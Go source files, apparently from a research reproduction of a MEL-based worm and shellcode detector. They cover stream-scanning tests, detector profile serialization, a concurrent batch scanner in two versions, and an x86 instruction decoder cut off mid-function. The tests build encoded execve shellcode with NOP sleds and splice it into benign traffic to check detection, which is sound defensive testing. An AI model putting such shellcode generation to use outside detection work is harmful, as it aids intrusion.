	var stream []byte
	stream = append(stream, corpus.Concat(cases[:3])...)
	stream = append(stream, []byte("X-Data: ")...)
	wormOffset := len(stream)
	stream = append(stream, w.Bytes...)
	stream = append(stream, corpus.Concat(cases[3:])...)

	alerts, err := d.ScanStream(bytes.NewReader(stream), 4096, 1024)
	if err != nil {
		t.Fatal(err)
	}
	if len(alerts) == 0 {
		t.Fatal("worm in mid-stream not detected")
	}
	// At least one alert's window must cover the worm.
	covered := false
	for _, a := range alerts {
		if a.Offset <= int64(wormOffset) && int64(wormOffset) < a.Offset+4096 {
			covered = true
		}
		if !a.Verdict.Malicious {
			t.Error("non-malicious verdict in alerts")
		}
	}
	if !covered {
		t.Errorf("no alert window covers the worm at %d: %+v", wormOffset, alerts)
	}
}

func TestStreamFlushCatchesTail(t *testing.T) {
	d := streamDetector(t)
	w, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: 5, SledLen: 64})
	if err != nil {
		t.Fatal(err)
	}
	// The worm arrives at the very end, shorter than a full window.
	s, err := NewStreamScanner(d, 4096, 2048)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.Write(w.Bytes); err != nil {
		t.Fatal(err)
	}
	if len(s.Alerts()) != 0 {
		t.Fatal("partial window scanned before Flush")
	}
	if err := s.Flush(); err != nil {
		t.Fatal(err)
	}
	if len(s.Alerts()) != 1 {
		t.Fatalf("flush alerts = %d, want 1", len(s.Alerts()))
	}
	// Flush twice is a no-op.
	if err := s.Flush(); err != nil {
		t.Fatal(err)
	}
	if len(s.Alerts()) != 1 {
		t.Error("double flush duplicated the alert")
	}
}

func TestStreamChunkedWrites(t *testing.T) {
	// Byte-at-a-time delivery must give identical alerts to one-shot.
	d := streamDetector(t)
	cases, err := corpus.Dataset(53, 2, 4000)
	if err != nil {
		t.Fatal(err)
	}
	w, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: 6})
	if err != nil {
		t.Fatal(err)
	}
	var stream []byte
	stream = append(stream, cases[0].Data...)
	stream = append(stream, w.Bytes...)
	stream = append(stream, cases[1].Data...)

	oneShot, err := d.ScanStream(bytes.NewReader(stream), 2048, 512)
	if err != nil {
		t.Fatal(err)
	}
	s, err := NewStreamScanner(d, 2048, 512)
	if err != nil {
		t.Fatal(err)
	}
	for _, b := range stream {
		if _, err := s.Write([]byte{b}); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Flush(); err != nil {
		t.Fatal(err)
	}
	chunked := s.Alerts()
	if len(oneShot) != len(chunked) {
		t.Fatalf("one-shot %d alerts vs chunked %d", len(oneShot), len(chunked))
	}
	for i := range oneShot {
		if oneShot[i].Offset != chunked[i].Offset {
			t.Errorf("alert %d offset %d vs %d", i, oneShot[i].Offset, chunked[i].Offset)
		}
	}
}

func TestAlertsReturnsCopy(t *testing.T) {
	d := streamDetector(t)
	s, err := NewStreamScanner(d, 1024, 512)
	if err != nil {
		t.Fatal(err)
	}
	a := s.Alerts()
	if len(a) != 0 {
		t.Fatal("fresh scanner has alerts")
	}
	a = append(a, StreamAlert{Offset: 99})
	if len(s.Alerts()) != 0 {
		t.Error("caller mutation leaked into scanner state")
	}
}

// TestStreamCarryDifferential proves the carrying session path produces
// alerts identical to the plain per-window scan path on the same
// stream, with a worm deliberately straddling a window carry boundary
// and chunked delivery exercising both Write paths.
func TestStreamCarryDifferential(t *testing.T) {
	d := streamDetector(t)
	cases, err := corpus.Dataset(57, 6, 4000)
	if err != nil {
		t.Fatal(err)
	}
	w, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: 31, SledLen: 96})
	if err != nil {
		t.Fatal(err)
	}
	benign := corpus.Concat(cases)
	// Straddle the first carry boundary: the worm starts inside window 0
	// and finishes inside window 1's fresh region.
	var stream []byte
	stream = append(stream, benign[:4096-len(w.Bytes)/2]...)
	stream = append(stream, w.Bytes...)
	stream = append(stream, benign[4096:]...)

	for _, chunk := range []int{0, 1, 777} {
		carrying, err := NewStreamScanner(d, 4096, 2048)
		if err != nil {
			t.Fatal(err)
		}
		plain, err := NewStreamScannerFunc(d.Scan, 4096, 2048)
		if err != nil {
			t.Fatal(err)
		}
		for _, s := range []*StreamScanner{carrying, plain} {
			if chunk == 0 {
				if _, err := s.Write(stream); err != nil {
					t.Fatal(err)
				}
			} else {
				for off := 0; off < len(stream); off += chunk {
					end := min(off+chunk, len(stream))
					if _, err := s.Write(stream[off:end]); err != nil {
						t.Fatal(err)
					}
				}
			}
			if err := s.Flush(); err != nil {
				t.Fatal(err)
			}
		}
		got, want := carrying.Alerts(), plain.Alerts()
		carrying.Close()
		if len(got) == 0 {
			t.Fatal("straddling worm not detected")
		}
		if len(got) != len(want) {
			t.Fatalf("chunk %d: carrying path %d alerts, plain path %d", chunk, len(got), len(want))
		}
		for i := range got {
			if got[i] != want[i] {
				t.Fatalf("chunk %d alert %d: carrying %+v, plain %+v", chunk, i, got[i], want[i])
			}
		}
	}
}

// TestStreamAlertBestStartAbsolute pins the offset math at window
// boundaries: a worm landing entirely inside the carry region of a
// later window must be reported with a stream-absolute BestStart that
// falls inside the worm, on every alerting window.
func TestStreamAlertBestStartAbsolute(t *testing.T) {
	d := streamDetector(t)
	cases, err := corpus.Dataset(58, 6, 4000)
	if err != nil {
		t.Fatal(err)
	}
	w, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: 12, SledLen: 80})
	if err != nil {
		t.Fatal(err)
	}
	benign := corpus.Concat(cases)
	// Place the worm inside [4096, 6144): window 1's carry region once
	// window 2 (offset 4096) picks it up, and past window 0 entirely.
	wormOffset := 4100
	var stream []byte
	stream = append(stream, benign[:wormOffset]...)
	stream = append(stream, w.Bytes...)
	stream = append(stream, benign[wormOffset:3*4096]...)

	s, err := NewStreamScanner(d, 4096, 2048)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	if _, err := s.Write(stream); err != nil {
		t.Fatal(err)
	}
	if err := s.Flush(); err != nil {
		t.Fatal(err)
	}
	alerts := s.Alerts()
	if len(alerts) == 0 {
		t.Fatal("worm not detected")
	}
	wormEnd := wormOffset + len(w.Bytes)
	for _, a := range alerts {
		if a.BestStart != a.Offset+int64(a.Verdict.BestStart) {
			t.Errorf("alert at %d: BestStart %d is not window offset plus relative start %d",
				a.Offset, a.BestStart, a.Verdict.BestStart)
		}
		if a.BestStart < int64(wormOffset) || a.BestStart >= int64(wormEnd) {
			t.Errorf("alert at %d: stream-absolute BestStart %d outside the worm [%d, %d)",
				a.Offset, a.BestStart, wormOffset, wormEnd)
		}
	}
}

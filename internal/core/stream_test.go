package core

import (
	"bytes"
	"testing"

	"repro/internal/corpus"
	"repro/internal/encoder"
	"repro/internal/shellcode"
)

func streamDetector(t *testing.T) *Detector {
	t.Helper()
	d, err := New()
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func TestStreamScannerValidation(t *testing.T) {
	d := streamDetector(t)
	if _, err := NewStreamScanner(nil, 0, 0); err == nil {
		t.Error("nil detector should fail")
	}
	if _, err := NewStreamScanner(d, 100, 200); err == nil {
		t.Error("stride > window should fail")
	}
	s, err := NewStreamScanner(d, 0, 0)
	if err != nil {
		t.Fatal(err)
	}
	if s.window != DefaultWindow || s.stride != DefaultStride {
		t.Errorf("defaults not applied: %d %d", s.window, s.stride)
	}
}

func TestBenignStreamNoAlerts(t *testing.T) {
	d := streamDetector(t)
	cases, err := corpus.Dataset(51, 8, 4000)
	if err != nil {
		t.Fatal(err)
	}
	stream := corpus.Concat(cases)
	alerts, err := d.ScanStream(bytes.NewReader(stream), 4096, 2048)
	if err != nil {
		t.Fatal(err)
	}
	if len(alerts) != 0 {
		t.Errorf("benign stream raised %d alerts: %+v", len(alerts), alerts[0].Verdict)
	}
}

func TestWormMidStreamCaught(t *testing.T) {
	d := streamDetector(t)
	cases, err := corpus.Dataset(52, 6, 4000)
	if err != nil {
		t.Fatal(err)
	}
	w, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: 77, SledLen: 64})
	if err != nil {
		t.Fatal(err)
	}
	// Splice the worm into the middle of benign traffic, deliberately
	// not aligned to any window boundary.
	var stream []byte
	stream = append(stream, corpus.Concat(cases[:3])...)
	stream = append(stream, []byte("X-Data: ")...)
	wormOffset := len(stream)
	stream = append(stream, w.Bytes...)
	stream = append(stream, corpus.Concat(cases[3:])...)

	alerts, err := d.ScanStream(bytes.NewReader(stream), 4096, 1024)
	if err != nil {
		t.Fatal(err)
	}
	if len(alerts) == 0 {
		t.Fatal("worm in mid-stream not detected")
	}
	// At least one alert's window must cover the worm.
	covered := false
	for _, a := range alerts {
		if a.Offset <= int64(wormOffset) && int64(wormOffset) < a.Offset+4096 {
			covered = true
		}
		if !a.Verdict.Malicious {
			t.Error("non-malicious verdict in alerts")
		}
	}
	if !covered {
		t.Errorf("no alert window covers the worm at %d: %+v", wormOffset, alerts)
	}
}

func TestStreamFlushCatchesTail(t *testing.T) {
	d := streamDetector(t)
	w, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: 5, SledLen: 64})
	if err != nil {
		t.Fatal(err)
	}
	// The worm arrives at the very end, shorter than a full window.
	s, err := NewStreamScanner(d, 4096, 2048)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.Write(w.Bytes); err != nil {
		t.Fatal(err)
	}
	if len(s.Alerts()) != 0 {
		t.Fatal("partial window scanned before Flush")
	}
	if err := s.Flush(); err != nil {
		t.Fatal(err)
	}
	if len(s.Alerts()) != 1 {
		t.Fatalf("flush alerts = %d, want 1", len(s.Alerts()))
	}
	// Flush twice is a no-op.
	if err := s.Flush(); err != nil {
		t.Fatal(err)
	}
	if len(s.Alerts()) != 1 {
		t.Error("double flush duplicated the alert")
	}
}

func TestStreamChunkedWrites(t *testing.T) {
	// Byte-at-a-time delivery must give identical alerts to one-shot.
	d := streamDetector(t)
	cases, err := corpus.Dataset(53, 2, 4000)
	if err != nil {
		t.Fatal(err)
	}
	w, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: 6})
	if err != nil {
		t.Fatal(err)
	}
	var stream []byte
	stream = append(stream, cases[0].Data...)
	stream = append(stream, w.Bytes...)
	stream = append(stream, cases[1].Data...)

	oneShot, err := d.ScanStream(bytes.NewReader(stream), 2048, 512)
	if err != nil {
		t.Fatal(err)
	}
	s, err := NewStreamScanner(d, 2048, 512)
	if err != nil {
		t.Fatal(err)
	}
	for _, b := range stream {
		if _, err := s.Write([]byte{b}); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Flush(); err != nil {
		t.Fatal(err)
	}
	chunked := s.Alerts()
	if len(oneShot) != len(chunked) {
		t.Fatalf("one-shot %d alerts vs chunked %d", len(oneShot), len(chunked))
	}
	for i := range oneShot {
		if oneShot[i].Offset != chunked[i].Offset {
			t.Errorf("alert %d offset %d vs %d", i, oneShot[i].Offset, chunked[i].Offset)
		}
	}
}

func TestAlertsReturnsCopy(t *testing.T) {
	d := streamDetector(t)
	s, err := NewStreamScanner(d, 1024, 512)
	if err != nil {
		t.Fatal(err)
	}
	a := s.Alerts()
	if len(a) != 0 {
		t.Fatal("fresh scanner has alerts")
	}
	a = append(a, StreamAlert{Offset: 99})
	if len(s.Alerts()) != 0 {
		t.Error("caller mutation leaked into scanner state")
	}
}

package core

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math"

	"repro/internal/mel"
	"repro/internal/x86"
)

// Profile is the serializable calibration state of a detector: the
// character-frequency table and operating configuration. Deployments
// calibrate once on representative traffic, persist the profile, and
// load it on every sensor (Section 5.2's pre-set table, made concrete).
type Profile struct {
	// Version guards the on-disk format.
	Version int `json:"version"`
	// Alpha is the false-positive bound.
	Alpha float64 `json:"alpha"`
	// Frequencies is the character table, indexed by byte value.
	Frequencies []float64 `json:"frequencies"`
	// Rules captures the invalidity-rule configuration.
	Rules ProfileRules `json:"rules"`
	// AllPaths selects the all-paths scan mode when true.
	AllPaths bool `json:"allPaths"`
}

// ProfileRules is the serializable form of mel.Rules.
type ProfileRules struct {
	InvalidateIO           bool  `json:"invalidateIO"`
	InvalidatePrivileged   bool  `json:"invalidatePrivileged"`
	WrongSegs              []int `json:"wrongSegs"`
	InvalidateExplicitAddr bool  `json:"invalidateExplicitAddr"`
	TrackRegisterInit      bool  `json:"trackRegisterInit"`
	InvalidateInterrupts   bool  `json:"invalidateInterrupts"`
	InvalidateFarTransfers bool  `json:"invalidateFarTransfers"`
}

// profileVersion is the current format version.
const profileVersion = 1

// ErrBadProfile reports an unusable serialized profile.
var ErrBadProfile = errors.New("core: invalid profile")

// ExportProfile captures the detector's calibration. It fails for
// per-input-calibrated detectors, which have no stable table to export.
func (d *Detector) ExportProfile() (*Profile, error) {
	if d == nil || !d.ready {
		return nil, ErrNotCalibrated
	}
	if d.perInput {
		return nil, errors.New("core: per-input detectors have no profile")
	}
	p := &Profile{
		Version:     profileVersion,
		Alpha:       d.alpha,
		Frequencies: make([]float64, 256),
		AllPaths:    d.mode == mel.ModeAllPaths,
		Rules: ProfileRules{
			InvalidateIO:           d.rules.InvalidateIO,
			InvalidatePrivileged:   d.rules.InvalidatePrivileged,
			InvalidateExplicitAddr: d.rules.InvalidateExplicitAddr,
			TrackRegisterInit:      d.rules.TrackRegisterInit,
			InvalidateInterrupts:   d.rules.InvalidateInterrupts,
			InvalidateFarTransfers: d.rules.InvalidateFarTransfers,
		},
	}
	copy(p.Frequencies, d.freq[:])
	for seg, wrong := range d.rules.WrongSegs {
		if wrong {
			p.Rules.WrongSegs = append(p.Rules.WrongSegs, int(seg))
		}
	}
	return p, nil
}

// Validate checks the profile's invariants.
func (p *Profile) Validate() error {
	if p.Version != profileVersion {
		return fmt.Errorf("%w: version %d", ErrBadProfile, p.Version)
	}
	if p.Alpha <= 0 || p.Alpha >= 1 {
		return fmt.Errorf("%w: alpha %v", ErrBadProfile, p.Alpha)
	}
	if len(p.Frequencies) != 256 {
		return fmt.Errorf("%w: %d frequency entries", ErrBadProfile, len(p.Frequencies))
	}
	var sum float64
	for i, v := range p.Frequencies {
		if v < 0 || math.IsNaN(v) || math.IsInf(v, 0) {
			return fmt.Errorf("%w: frequency[%d] = %v", ErrBadProfile, i, v)
		}
		sum += v
	}
	if math.Abs(sum-1) > 1e-6 {
		return fmt.Errorf("%w: frequencies sum to %v", ErrBadProfile, sum)
	}
	for _, s := range p.Rules.WrongSegs {
		if s < int(x86.SegES) || s > int(x86.SegGS) {
			return fmt.Errorf("%w: segment %d", ErrBadProfile, s)
		}
	}
	return nil
}

// NewFromProfile builds a detector from a validated profile.
func NewFromProfile(p *Profile) (*Detector, error) {
	if p == nil {
		return nil, ErrBadProfile
	}
	if err := p.Validate(); err != nil {
		return nil, err
	}
	rules := mel.Rules{
		InvalidateIO:           p.Rules.InvalidateIO,
		InvalidatePrivileged:   p.Rules.InvalidatePrivileged,
		InvalidateExplicitAddr: p.Rules.InvalidateExplicitAddr,
		TrackRegisterInit:      p.Rules.TrackRegisterInit,
		InvalidateInterrupts:   p.Rules.InvalidateInterrupts,
		InvalidateFarTransfers: p.Rules.InvalidateFarTransfers,
	}
	if len(p.Rules.WrongSegs) > 0 {
		rules.WrongSegs = make(map[x86.Seg]bool, len(p.Rules.WrongSegs))
		for _, s := range p.Rules.WrongSegs {
			rules.WrongSegs[x86.Seg(s)] = true
		}
	}
	mode := mel.ModeSequential
	if p.AllPaths {
		mode = mel.ModeAllPaths
	}
	var freq [256]float64
	copy(freq[:], p.Frequencies)
	return New(
		WithAlpha(p.Alpha),
		WithRules(rules),
		WithMode(mode),
		WithPresetFrequencies(freq),
	)
}

// WriteTo serializes the profile as JSON.
func (p *Profile) WriteTo(w io.Writer) (int64, error) {
	if err := p.Validate(); err != nil {
		return 0, err
	}
	enc, err := json.MarshalIndent(p, "", "  ")
	if err != nil {
		return 0, fmt.Errorf("core: encode profile: %w", err)
	}
	n, err := w.Write(append(enc, '\n'))
	return int64(n), err
}

// ReadProfile deserializes and validates a profile.
func ReadProfile(r io.Reader) (*Profile, error) {
	var p Profile
	dec := json.NewDecoder(r)
	if err := dec.Decode(&p); err != nil {
		return nil, fmt.Errorf("%w: %v", ErrBadProfile, err)
	}
	if err := p.Validate(); err != nil {
		return nil, err
	}
	return &p, nil
}

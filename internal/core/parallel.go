package core

import (
	"context"
	"errors"
	"fmt"
	"runtime"
	"sync"
	"sync/atomic"
)

// ScanBatch scans payloads concurrently with a bounded worker pool and
// returns verdicts in input order. The detector is safe for concurrent
// Scan calls (its configuration is immutable after New/Calibrate; each
// scan draws pooled engine state). workers <= 0 selects GOMAXPROCS.
// The context cancels outstanding work; the first error (scan failure
// or cancellation) is returned and remaining work is abandoned.
//
// Work is sharded by an atomic next-index counter instead of a job
// channel: each worker claims the next payload with one uncontended
// atomic add, so there is no feeder goroutine, no channel hand-off on
// the hot path, and payloads are still handed out in input order
// (workers that finish early simply claim more). Cancellation is
// polled between claims — a claim already issued finishes its scan.
func (d *Detector) ScanBatch(ctx context.Context, payloads [][]byte, workers int) ([]Verdict, error) {
	if d == nil || d.engine == nil {
		return nil, ErrNotCalibrated
	}
	if ctx == nil {
		return nil, errors.New("core: nil context")
	}
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers > len(payloads) {
		workers = len(payloads)
	}
	if len(payloads) == 0 {
		return nil, nil
	}

	verdicts := make([]Verdict, len(payloads))

	cctx, cancel := context.WithCancel(ctx)
	defer cancel()

	var (
		next     atomic.Int64
		wg       sync.WaitGroup
		errOnce  sync.Once
		firstErr error
	)
	fail := func(err error) {
		errOnce.Do(func() {
			firstErr = err
			cancel()
		})
	}

	done := cctx.Done()
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				i := int(next.Add(1)) - 1
				if i >= len(payloads) {
					return
				}
				select {
				case <-done:
					return
				default:
				}
				v, err := d.Scan(payloads[i])
				if err != nil {
					fail(fmt.Errorf("payload %d: %w", i, err))
					return
				}
				verdicts[i] = v
			}
		}()
	}
	wg.Wait()

	if firstErr != nil {
		return nil, firstErr
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	return verdicts, nil
}

package core

import (
	"context"
	"errors"
	"fmt"
	"runtime"
	"sync"
)

// ScanBatch scans payloads concurrently with a bounded worker pool and
// returns verdicts in input order. The detector is safe for concurrent
// Scan calls (its configuration is immutable after New/Calibrate; each
// scan allocates its own engine state). workers <= 0 selects
// GOMAXPROCS. The context cancels outstanding work; the first error
// (scan failure or cancellation) is returned and remaining work is
// abandoned.
func (d *Detector) ScanBatch(ctx context.Context, payloads [][]byte, workers int) ([]Verdict, error) {
	if d == nil || d.engine == nil {
		return nil, ErrNotCalibrated
	}
	if ctx == nil {
		return nil, errors.New("core: nil context")
	}
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers > len(payloads) {
		workers = len(payloads)
	}
	if len(payloads) == 0 {
		return nil, nil
	}

	type job struct{ idx int }
	jobs := make(chan job)
	verdicts := make([]Verdict, len(payloads))

	cctx, cancel := context.WithCancel(ctx)
	defer cancel()

	var (
		wg       sync.WaitGroup
		errOnce  sync.Once
		firstErr error
	)
	fail := func(err error) {
		errOnce.Do(func() {
			firstErr = err
			cancel()
		})
	}

	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := range jobs {
				v, err := d.Scan(payloads[j.idx])
				if err != nil {
					fail(fmt.Errorf("payload %d: %w", j.idx, err))
					return
				}
				verdicts[j.idx] = v
			}
		}()
	}

	// Feed jobs until done or cancelled.
	feed := func() {
		defer close(jobs)
		for i := range payloads {
			select {
			case jobs <- job{idx: i}:
			case <-cctx.Done():
				return
			}
		}
	}
	feed()
	wg.Wait()

	if firstErr != nil {
		return nil, firstErr
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	return verdicts, nil
}

// Package x86 implements a self-contained IA-32 instruction decoder: the
// full one-byte opcode map, the common two-byte (0x0F) map, prefix
// handling, ModRM/SIB/displacement/immediate sizing, and a semantic
// classification of each instruction (control flow, I/O, privileged,
// memory access shape). It is the disassembly substrate underneath every
// detector in this repository — a pure-Go port of the subset of a
// capstone-style disassembler that MEL analysis requires.
//
// The decoder targets 32-bit protected mode (the environment of the
// paper): default operand and address size are 32 bits, switchable per
// instruction by the 0x66/0x67 prefixes.
package x86

import (
	"errors"
	"fmt"
)

// Decode errors. ErrTruncated means the byte stream ended inside an
// instruction; ErrTooManyPrefixes means the 15-byte architectural limit
// was exceeded by prefixes alone.
var (
	ErrTruncated       = errors.New("x86: truncated instruction")
	ErrTooManyPrefixes = errors.New("x86: instruction exceeds 15 bytes")
)

// MaxInstLen is the architectural limit on IA-32 instruction length.
const MaxInstLen = 15

// Reg identifies a 32-bit general-purpose register (the encoding order of
// the architecture).
type Reg int8

// General-purpose registers in encoding order.
const (
	EAX Reg = iota
	ECX
	EDX
	EBX
	ESP
	EBP
	ESI
	EDI
	// RegNone marks an absent register operand.
	RegNone Reg = -1
)

var regNames = [8]string{"eax", "ecx", "edx", "ebx", "esp", "ebp", "esi", "edi"}

// String returns the conventional register name.
func (r Reg) String() string {
	if r >= 0 && int(r) < len(regNames) {
		return regNames[r]
	}
	return "none"
}

// Seg identifies a segment register, used for override prefixes.
type Seg int8

// Segment registers. SegNone means no override prefix was present.
const (
	SegNone Seg = iota
	SegES
	SegCS
	SegSS
	SegDS
	SegFS
	SegGS
)

var segNames = [...]string{"", "es", "cs", "ss", "ds", "fs", "gs"}

// String returns the segment register name ("" for SegNone).
func (s Seg) String() string {
	if s >= 0 && int(s) < len(segNames) {
		return segNames[s]
	}
	return "?"
}

// Flags classifies an instruction's semantics; multiple bits may be set.
type Flags uint32

// Flag bits.
const (
	// FlagCondBranch marks conditional control transfer (Jcc, LOOPcc, JECXZ).
	FlagCondBranch Flags = 1 << iota
	// FlagUncondJump marks unconditional JMP (near relative or indirect).
	FlagUncondJump
	// FlagCall marks CALL (near relative, indirect, or far).
	FlagCall
	// FlagRet marks RET/RETF/IRET.
	FlagRet
	// FlagInt marks software interrupts (INT, INT3, INTO).
	FlagInt
	// FlagIO marks I/O instructions (IN, OUT, INS, OUTS) — privileged for
	// user code at the default IOPL, the paper's key text invalidator.
	FlagIO
	// FlagPrivileged marks instructions that fault at CPL 3 (HLT, CLI, ...).
	FlagPrivileged
	// FlagUndefined marks opcodes that raise #UD.
	FlagUndefined
	// FlagString marks implicit-memory string instructions (MOVS, STOS, ...).
	FlagString
	// FlagFPU marks x87 escape opcodes (D8-DF).
	FlagFPU
	// FlagSystem marks system-table instructions (LGDT-class, MOV CR, ...).
	FlagSystem
	// FlagStack marks instructions that implicitly access the stack
	// (PUSH/POP/PUSHA/POPA/ENTER/LEAVE/CALL/RET/...).
	FlagStack
	// FlagIndirect marks control transfers through a register or memory
	// operand (target not statically known).
	FlagIndirect
	// FlagFar marks far control transfers (CALLF/JMPF/RETF).
	FlagFar
)

// Has reports whether all bits in mask are set.
func (f Flags) Has(mask Flags) bool { return f&mask == mask }

// Prefixes records the instruction's prefix bytes in decoded form.
type Prefixes struct {
	// Seg is the segment-override prefix, SegNone if absent.
	Seg Seg
	// OpSize is true when 0x66 toggles to 16-bit operands.
	OpSize bool
	// AddrSize is true when 0x67 toggles to 16-bit addressing.
	AddrSize bool
	// Lock is true when 0xF0 is present.
	Lock bool
	// RepNE is true when 0xF2 is present.
	RepNE bool
	// Rep is true when 0xF3 is present.
	Rep bool
	// Count is the total number of prefix bytes consumed.
	Count int
}

// Inst is one decoded IA-32 instruction.
type Inst struct {
	// Offset is the position of the first byte within the decoded stream.
	Offset int
	// Len is the total encoded length in bytes, including prefixes.
	Len int
	// Op is the operation mnemonic identifier.
	Op Op
	// Cond is the condition code (0-15) for Jcc/SETcc/CMOVcc, else 0.
	Cond byte
	// Prefixes holds the decoded prefix state.
	Prefixes Prefixes
	// Opcode is the primary opcode byte (the second byte for 0x0F forms).
	Opcode byte
	// TwoByte is true for 0x0F-escaped opcodes.
	TwoByte bool
	// ThreeByte is true for 0F 38 / 0F 3A opcodes (Opcode then holds the
	// third byte).
	ThreeByte bool

	// HasModRM is true when a ModRM byte follows the opcode; Mod, Reg and
	// RM are its decoded fields.
	HasModRM bool
	ModRM    byte
	Mod      byte
	RegField byte
	RM       byte
	// HasSIB is true when a SIB byte is present.
	HasSIB bool
	SIB    byte

	// Disp is the sign-extended displacement; DispSize its encoded width
	// in bytes (0 if absent).
	Disp     int32
	DispSize int
	// Imm is the sign-extended immediate; ImmSize its width (0 if absent).
	// ENTER's second immediate is packed into Imm2.
	Imm     int64
	ImmSize int
	Imm2    int64

	// MemAccess is true when the instruction references memory (explicit
	// ModRM memory operand, moffs form, XLAT, or string implicit memory).
	// LEA does not access memory.
	MemAccess bool
	// MemWrite/MemRead describe the direction of the explicit access.
	MemWrite bool
	MemRead  bool
	// MemBase/MemIndex are the address-forming registers (RegNone if
	// absent); MemScale is the SIB scale factor (1 when no SIB).
	MemBase  Reg
	MemIndex Reg
	MemScale uint8
	// MemDispOnly is true for absolute-address operands (mod=00 rm=101,
	// or moffs forms) — the paper's "explicit memory address" case.
	MemDispOnly bool

	// Flags is the semantic classification.
	Flags Flags

	// RelTarget is, for relative branches, the stream offset of the
	// target (Offset + Len + displacement). Valid only when HasRelTarget.
	RelTarget    int
	HasRelTarget bool
}

// IsBranch reports whether the instruction is any control transfer.
func (i *Inst) IsBranch() bool {
	return i.Flags&(FlagCondBranch|FlagUncondJump|FlagCall|FlagRet|FlagInt) != 0
}

// EffectiveSeg returns the segment the explicit memory operand uses:
// the override if present, otherwise SS for EBP/ESP-based addresses and
// DS for everything else.
func (i *Inst) EffectiveSeg() Seg {
	if !i.MemAccess {
		return SegNone
	}
	if i.Prefixes.Seg != SegNone {
		return i.Prefixes.Seg
	}
	if i.MemBase == EBP || i.MemBase == ESP {
		return SegSS
	}
	return SegDS
}

// String renders a short human-readable form, e.g. "sub [ecx+0x41], eax".
func (i *Inst) String() string {
	name := i.Mnemonic()
	if !i.HasModRM || !i.MemAccess {
		// Opcode-embedded register forms read better with the register.
		if !i.TwoByte {
			switch op := i.Opcode; {
			case op >= 0x40 && op <= 0x5F, op >= 0x91 && op <= 0x97:
				return fmt.Sprintf("%s %s", name, Reg(op&7))
			case op >= 0xB0 && op <= 0xBF:
				return fmt.Sprintf("%s %s, 0x%x", name, Reg(op&7),
					uint64(i.Imm)&(1<<(8*uint(i.ImmSize))-1))
			}
		}
		if i.HasModRM && i.Mod == 3 {
			if i.ImmSize > 0 {
				return fmt.Sprintf("%s %s, 0x%x", name, Reg(i.RM),
					uint64(i.Imm)&(1<<(8*uint(i.ImmSize))-1))
			}
			return fmt.Sprintf("%s %s, %s", name, Reg(i.RM), Reg(i.RegField))
		}
		if i.ImmSize > 0 {
			return fmt.Sprintf("%s 0x%x", name, uint64(i.Imm)&(1<<(8*uint(i.ImmSize))-1))
		}
		if i.HasRelTarget {
			return fmt.Sprintf("%s +%d", name, i.RelTarget)
		}
		return name
	}
	mem := "["
	if s := i.Prefixes.Seg; s != SegNone {
		mem += s.String() + ":"
	}
	sep := ""
	if i.MemBase != RegNone {
		mem += i.MemBase.String()
		sep = "+"
	}
	if i.MemIndex != RegNone {
		mem += fmt.Sprintf("%s%s*%d", sep, i.MemIndex.String(), i.MemScale)
		sep = "+"
	}
	if i.DispSize > 0 || sep == "" {
		mem += fmt.Sprintf("%s0x%x", sep, uint32(i.Disp))
	}
	mem += "]"
	if i.ImmSize > 0 {
		return fmt.Sprintf("%s %s, 0x%x", name, mem, uint64(i.Imm)&(1<<(8*uint(i.ImmSize))-1))
	}
	return fmt.Sprintf("%s %s", name, mem)
}

// Mnemonic returns the lower-case mnemonic, resolving condition codes for
// Jcc/SETcc/CMOVcc.
func (i *Inst) Mnemonic() string {
	switch i.Op {
	case OpJcc:
		return "j" + condNames[i.Cond&0xF]
	case OpSetcc:
		return "set" + condNames[i.Cond&0xF]
	case OpCmovcc:
		return "cmov" + condNames[i.Cond&0xF]
	default:
		return i.Op.String()
	}
}

// condNames maps condition-code nibbles to mnemonic suffixes.
var condNames = [16]string{
	"o", "no", "b", "ae", "e", "ne", "be", "a",
	"s", "ns", "p", "np", "l", "ge", "le", "g",
}

package x86

// Decode decodes one instruction from code starting at offset, in 32-bit
// protected mode. Undefined opcodes decode successfully with
// FlagUndefined set (they occupy bytes and raise #UD at runtime, which is
// exactly what MEL analysis needs); only a stream that ends mid-
// instruction or an instruction exceeding the 15-byte architectural limit
// returns an error.
func Decode(code []byte, offset int) (Inst, error) {
	var inst Inst
	err := DecodeInto(&inst, code, offset)
	return inst, err
}

// DecodeInto decodes one instruction into a caller-provided Inst,
// overwriting it completely. It is the allocation-free form of Decode:
// scan loops that decode the same stream many times can reuse one Inst
// (or a preallocated cache of them) instead of copying the struct out of
// every call. Decoding semantics are identical to Decode.
//
//mel:hotpath
func DecodeInto(inst *Inst, code []byte, offset int) error {
	*inst = Inst{}
	inst.Op = OpInvalid
	inst.Offset = offset
	inst.MemBase = RegNone
	inst.MemIndex = RegNone
	inst.MemScale = 1

	pos := offset
	limit := offset + MaxInstLen
	if limit > len(code) {
		limit = len(code)
	}

	// Prefix loop.
prefixes:
	for {
		if pos >= len(code) {
			return ErrTruncated
		}
		if pos-offset >= MaxInstLen {
			return ErrTooManyPrefixes
		}
		b := code[pos]
		switch b {
		case 0x26:
			inst.Prefixes.Seg = SegES
		case 0x2E:
			inst.Prefixes.Seg = SegCS
		case 0x36:
			inst.Prefixes.Seg = SegSS
		case 0x3E:
			inst.Prefixes.Seg = SegDS
		case 0x64:
			inst.Prefixes.Seg = SegFS
		case 0x65:
			inst.Prefixes.Seg = SegGS
		case 0x66:
			inst.Prefixes.OpSize = true
		case 0x67:
